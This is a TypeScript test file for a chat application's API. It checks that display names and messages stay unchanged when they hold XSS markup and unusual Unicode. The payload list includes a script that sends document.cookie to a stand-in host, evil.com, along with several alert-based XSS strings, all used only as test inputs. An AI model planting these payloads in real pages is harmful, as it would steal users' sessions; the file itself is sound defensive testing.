/**
 * Stored XSS at the API layer: markup in display names and messages is data. The API stores and
 * returns it byte-for-byte as JSON (escaping is the client's job: Solid renders text, never
 * innerHTML), so nothing is mangled and nothing is "sanitized" into something else.
 */
import { describe, expect, it } from "vitest";
import { befriend, call, directRoom, isAck, isMessage, pair, register, roomSocket } from "../harness";
import type { Message, Room, User } from "../../../worker/contract";
import { d1CaughtUp } from "../room-log-helpers";
import { query } from "./helpers";

const SCRIPT = "<script>alert(1)</script>";
const IMG = "<img src=x onerror=alert(1)>";
const PAYLOADS = [
  SCRIPT,
  IMG,
  `"><svg/onload=alert(document.cookie)>`,
  "</script><script>fetch('//evil.com?'+document.cookie)</script>",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "&lt;b&gt;already escaped&lt;/b&gt; &amp; &#x3C;",
  `<a href="javascript:alert(1)">click</a> ' " \` \\ \\u003c`,
];

const getJson = async <T>(path: string, cookie: string): Promise<T> => {
  const res = await call(path, { cookie });
  expect(res.status, path).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^application\/json/);
  return (await res.json()) as T;
};

describe("display names", () => {
  it.each([SCRIPT, IMG])("%s is stored and returned byte-for-byte on register, /me, friends and room members", async (name) => {
    const evil = await register(undefined, name);
    expect(evil.user.displayName).toBe(name);
    expect((await query<{ display_name: string }>("select display_name from users where id = ?", evil.user.id))[0]!.display_name).toBe(name);
    expect((await getJson<{ user: User }>("/api/me", evil.cookie)).user.displayName).toBe(name);
    const other = await register();
    await befriend(other, evil);
    const { friends } = await getJson<{ friends: User[] }>("/api/friends", other.cookie);
    expect(friends.find((f) => f.id === evil.user.id)!.displayName).toBe(name);
    const room = await directRoom(other, evil);
    expect(room.members.find((m) => m.id === evil.user.id)!.displayName).toBe(name);
  });

  it("PATCH /api/me with markup stores and returns it byte-for-byte", async () => {
    const u = await register();
    const res = await call("/api/me", { method: "PATCH", cookie: u.cookie, json: { displayName: IMG } });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { user: User }).user.displayName).toBe(IMG);
    expect((await getJson<{ user: User }>("/api/me", u.cookie)).user.displayName).toBe(IMG);
  });
});

describe("message bodies", () => {
  it("markup is stored and returned byte-for-byte in the ack, the live frame, history, the room's last message and D1", async () => {
    const { a, b, room } = await pair();
    const sa = await roomSocket(room.id, a);
    const sb = await roomSocket(room.id, b);
    for (const [i, body] of PAYLOADS.entries()) {
      sa.send({ type: "send", clientId: `xss-${i}`, body });
      const ack = await sa.next(isAck(`xss-${i}`));
      expect(ack.message.body).toBe(body);
      expect((await sb.next(isMessage(ack.message.seq))).message.body).toBe(body);
    }
    const { messages } = await getJson<{ messages: Message[] }>(`/api/rooms/${room.id}/messages`, b.cookie);
    expect(messages.map((m) => m.body)).toEqual(PAYLOADS);
    await d1CaughtUp(room.id);
    const rows = await query<{ body: string }>("select body from messages where room_id = ? order by seq", room.id);
    expect(rows.map((r) => r.body)).toEqual(PAYLOADS);
    const { room: r } = await getJson<{ room: Room }>(`/api/rooms/${room.id}`, b.cookie);
    expect(r.lastMessage!.body).toBe(PAYLOADS.at(-1));
    sa.close();
    sb.close();
  });

  it("well-formed Unicode edge cases (NUL, RTL override, BOM, ZWJ emoji, combining marks, astral, Hangul) round-trip exactly in messages", async () => {
    const bodies = [
      "a\u0000b",
      "\u202Egnp.exe\u202C",
      "\u200F\u05E9\u05DC\u05D5\u05DD\u200E",
      "x\uFEFFy",
      "👨‍👩‍👧‍👦 🏳️‍🌈",
      "e\u0301 n\u0303 한\u1100\u1161",
      "𝕏𝔂𐍈",
      "안녕하세요",
      "\u2028line\u2029para",
    ];
    const { a, b, room } = await pair();
    const sa = await roomSocket(room.id, a);
    for (const [i, body] of bodies.entries()) {
      sa.send({ type: "send", clientId: `u-${i}`, body });
      expect((await sa.next(isAck(`u-${i}`))).message.body, JSON.stringify(body)).toBe(body);
    }
    const { messages } = await getJson<{ messages: Message[] }>(`/api/rooms/${room.id}/messages`, b.cookie);
    expect(messages.map((m) => m.body)).toEqual(bodies);
    await d1CaughtUp(room.id);
    const rows = await query<{ body: string }>("select body from messages where room_id = ? order by seq", room.id);
    expect(rows.map((r) => r.body)).toEqual(bodies);
    // A display name may not hold controls or bidi overrides (docs/api.md); emoji sequences and
    // combining marks in the middle of one round-trip exactly (trimming only touches the ends).
    const refused = await call("/api/me", { method: "PATCH", cookie: a.cookie, json: { displayName: "a\u0000\u202Eb👨‍👩‍👧" } });
    expect(refused.status).toBe(400);
    const name = "a e\u0301 b👨‍👩‍👧";
    const res = await call("/api/me", { method: "PATCH", cookie: a.cookie, json: { displayName: name } });
    expect(res.status).toBe(200);
    expect((await getJson<{ user: User }>("/api/me", a.cookie)).user.displayName).toBe(name);
    sa.close();
  });

  it("a lone surrogate (not encodable as UTF-8) in a display name or message is refused, or returned exactly as sent — never silently replaced", async () => {
    const { a, room } = await pair();
    const name = "ab\ud800cd";
    const res = await call("/api/me", { method: "PATCH", cookie: a.cookie, json: { displayName: name } });
    // Compared as JSON text so a failure report stays well-formed.
    if (res.status !== 400) {
      expect(res.status).toBe(200);
      expect(JSON.stringify(((await res.json()) as { user: User }).user.displayName)).toBe(JSON.stringify(name));
      expect(JSON.stringify((await getJson<{ user: User }>("/api/me", a.cookie)).user.displayName)).toBe(JSON.stringify(name));
    }
    const sa = await roomSocket(room.id, a);
    sa.send({ type: "send", clientId: "lone", body: "x\udc00y" });
    const answer = await sa.next((f) => (f.type === "ack" && f.clientId === "lone") || f.type === "error");
    if (answer.type === "ack") expect(JSON.stringify(answer.message.body)).toBe(JSON.stringify("x\udc00y"));
    sa.close();
  });
});
